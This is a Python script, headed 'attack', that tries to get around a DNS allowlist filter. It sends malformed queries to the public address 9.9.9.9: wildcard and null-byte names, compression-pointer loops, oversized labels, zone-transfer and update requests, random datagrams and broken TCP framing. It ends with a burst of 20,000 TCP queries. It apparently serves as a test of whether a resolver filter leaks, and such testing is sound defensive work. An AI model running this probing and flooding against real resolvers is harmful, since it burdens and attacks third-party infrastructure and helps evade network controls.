# attack: get an address for a name that no rule allows, by queries that no resolver would write
import random, socket, struct, sys

possible, count = [], 0


def label(text):
    return bytes([len(text)]) + text


def query(name, kind=1, flags=0x0100, questions=1, klass=1, tail=b""):
    return struct.pack("!HHHHHH", 7, flags, questions, 0, 0, 0) + name + struct.pack("!HH", kind, klass) + tail


def ask(server, bytes_sent):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(0.05)
        asker.connect((server, 53))
        asker.send(bytes_sent)
        try:
            return asker.recv(4096)
        except TimeoutError:
            return b""


def attempt(name, bytes_sent):
    global count
    count += 1
    response = ask("9.9.9.9", bytes_sent)
    answers = struct.unpack("!H", response[6:8])[0] if len(response) >= 12 else 0
    if answers:
        possible.append(f"{name}: {answers} answers")


good = label(b"allowed") + label(b"example") + b"\0"
assert struct.unpack("!H", ask("1.2.3.4", query(good))[6:8])[0] == 1, "an allowed name has an address"
for name in (b"other.example", b"wild.example", b"xwild.example", b"allowed.example.other", b"x.allowed.example", b"example", b"com"):
    attempt(name.decode(), query(b"".join(map(label, name.split(b"."))) + b"\0"))
for odd in (b"a\0", b"\0.wild", b"a.b", b"a b", b"*", b"\xff", b"a/b", b"a:80", b"a@b", b"a\n", b"%00", b"\xc3\xa4", b""):
    attempt(f"{odd} below a wildcard", query((label(odd) if odd else b"") + label(b"\0wild" if not odd else b"wild") + label(b"example") + b"\0"))
attempt("allowed.example\\0.wild.example", query(label(b"allowed.example\0") + label(b"wild") + label(b"example") + b"\0"))
attempt("one label with dots", query(label(b"allowed.example") + b"\0"))
attempt("a loop", query(b"\xc0\x0c"))
attempt("a pointer to itself in a name", query(label(b"x") + b"\xc0\x0c"))
attempt("a pointer forward", query(b"\xc0\x20") + good)
attempt("a pointer beyond the end", query(b"\xff\xff"))
attempt("a long label", query(b"\x40" + b"a" * 64 + label(b"wild") + label(b"example") + b"\0"))
attempt("a long name", query(label(b"a" * 63) * 4 + label(b"wild") + label(b"example") + b"\0"))
attempt("endless labels", query(label(b"a") * 2000 + b"\0"))
attempt("no question", query(good, questions=0))
attempt("two questions", query(good, questions=2, tail=good + struct.pack("!HH", 1, 1)))
attempt("many questions", query(good, questions=65535))
attempt("a response", query(good, flags=0x8180))
attempt("an update", query(good, flags=0x2800))
attempt("a notification", query(good, flags=0x2000))
attempt("a zone transfer", query(label(b"other") + label(b"example") + b"\0", kind=252))
attempt("another class", query(good, klass=3))
for length in range(0, 30, 3):
    attempt(f"cut at {length}", query(good)[:length])
random.seed(7)
for _ in range(300):
    attempt("noise", random.randbytes(random.randrange(1, 600)))
attempt("a large datagram", query(label(b"other") + label(b"example") + b"\0", tail=b"x" * 50000))
# Over TCP too: wrong lengths, pieces, and answers that nobody reads.
for pieces in ((b"\xff\xff" + b"x" * 100,), (b"\0",), (b"\0\0" * 5000,), (b"\0\x05hello",) * 50):
    count += 1
    asker = socket.create_connection(("9.9.9.9", 53), timeout=0.2)
    try:
        for piece in pieces:
            asker.sendall(piece)
        answer = asker.recv(4096)
        if len(answer) >= 14 and answer[8:10] != b"\0\0":
            possible.append(f"an answer to {pieces[0][:8]}")
    except OSError:
        pass
question = query(good)
asker = socket.create_connection(("9.9.9.9", 53), timeout=5)
asker.settimeout(1)
count += 1
try:
    for _ in range(20000):
        asker.sendall(struct.pack("!H", len(question)) + question)
except OSError:
    pass
print("\n".join(possible))
print(f"{count} attempts")
sys.exit(1 if possible else 0)
